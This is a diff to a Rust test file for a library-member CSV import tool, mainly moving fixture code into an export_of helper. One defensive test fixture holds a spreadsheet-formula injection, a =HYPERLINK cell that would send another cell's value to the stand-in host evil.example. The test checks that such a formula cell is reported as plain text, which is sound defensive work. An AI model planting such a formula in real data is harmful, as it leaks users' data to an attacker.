@@ -234,26 +234,32 @@ async fn migrated_members_log_in_with_the_old_password_or_their_new_username() {
 }
 
 /// A generated export of `members` rows for DRE01.
-fn export(members: usize) -> tempfile::NamedTempFile {
+/// An export with the documented header and these rows, one per line.
+fn export_of(rows: &str) -> tempfile::NamedTempFile {
     let mut file = tempfile::Builder::new().suffix(".csv").tempfile().unwrap();
     writeln!(
         file,
         "library_code,card_number,branch,username,password_hash,email,name,birth_date,subscription_type,valid_until,last_login"
     )
     .unwrap();
-    for n in 0..members {
-        // Every tenth name is wanted twice, so collisions are resolved on every run.
-        writeln!(
-            file,
-            "DRE01,{},5280,lid{},{{SSHA}}jdALDtX0+MVMkRsX0ilHz0O6Uos95D4s,lid{n}@example.nl,Lid {n},1990-01-01,VOLWASSEN,2027-05-31,2024-{:02}-01",
-            20_000_000_000_000u64 + n as u64,
-            n - n % 2 * usize::from(n % 10 == 1),
-            n % 12 + 1
-        )
-        .unwrap();
-    }
+    write!(file, "{rows}").unwrap();
     file.flush().unwrap();
     file
+}
+
+fn export(members: usize) -> tempfile::NamedTempFile {
+    // Every tenth name is wanted twice, so collisions are resolved on every run.
+    let rows: String = (0..members)
+        .map(|n| {
+            format!(
+                "DRE01,{},5280,lid{},{{SSHA}}jdALDtX0+MVMkRsX0ilHz0O6Uos95D4s,lid{n}@example.nl,Lid {n},1990-01-01,VOLWASSEN,2027-05-31,2024-{:02}-01\n",
+                20_000_000_000_000u64 + n as u64,
+                n - n % 2 * usize::from(n % 10 == 1),
+                n % 12 + 1
+            )
+        })
+        .collect();
+    export_of(&rows)
 }
 
 #[tokio::test(flavor = "multi_thread")]
@@ -354,15 +360,10 @@ async fn json_lines_exports_plan_like_csv() {
 async fn a_cell_a_spreadsheet_would_run_as_a_formula_is_reported_as_text() {
     let app = spawn_app().await;
     libraries(&app).await;
-    let mut file = tempfile::Builder::new().suffix(".csv").tempfile().unwrap();
-    write!(
-        file,
-        "library_code,card_number,branch,username,password_hash,email,name,birth_date,subscription_type,valid_until,last_login\n\
-         DRE01,20000000000001,5280,\"=HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"klik\"\")\",,een@example.nl,Een Lid,1980-02-01,VOLWASSEN,2027-05-31,2024-01-01\n\
-         DRE01,20000000000002,5280,-jan_,,,Twee Lid,1981-03-02,VOLWASSEN,2027-05-31,2024-06-01\n"
-    )
-    .unwrap();
-    file.flush().unwrap();
+    let file = export_of(
+        "DRE01,20000000000001,5280,\"=HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"klik\"\")\",,een@example.nl,Een Lid,1980-02-01,VOLWASSEN,2027-05-31,2024-01-01\n\
+         DRE01,20000000000002,5280,-jan_,,,Twee Lid,1981-03-02,VOLWASSEN,2027-05-31,2024-06-01\n",
+    );
     let files = vec![file.path().to_owned()];
     let reports = tempfile::tempdir().unwrap();
 
@@ -390,16 +391,11 @@ async fn a_cell_a_spreadsheet_would_run_as_a_formula_is_reported_as_text() {
 async fn a_card_number_given_twice_at_a_library_is_reported_and_the_first_row_imported() {
     let app = spawn_app().await;
     libraries(&app).await;
-    let mut file = tempfile::Builder::new().suffix(".csv").tempfile().unwrap();
-    write!(
-        file,
-        "library_code,card_number,branch,username,password_hash,email,name,birth_date,subscription_type,valid_until,last_login\n\
-         DRE01,20000000000001,5280,eerste,,eerste@example.nl,Eerste Lid,1980-02-01,VOLWASSEN,2027-05-31,2024-01-01\n\
+    let file = export_of(
+        "DRE01,20000000000001,5280,eerste,,eerste@example.nl,Eerste Lid,1980-02-01,VOLWASSEN,2027-05-31,2024-01-01\n\
          DRE01,20000000000001,5280,tweede,,tweede@example.nl,Tweede Lid,1981-03-02,VOLWASSEN,2027-05-31,2024-06-01\n\
-         GRO01,20000000000001,,derde,,derde@example.nl,Derde Lid,1982-04-03,VOLWASSEN,2027-05-31,\n"
-    )
-    .unwrap();
-    file.flush().unwrap();
+         GRO01,20000000000001,,derde,,derde@example.nl,Derde Lid,1982-04-03,VOLWASSEN,2027-05-31,\n",
+    );
     let files = vec![file.path().to_owned()];
     let reports = tempfile::tempdir().unwrap();
 
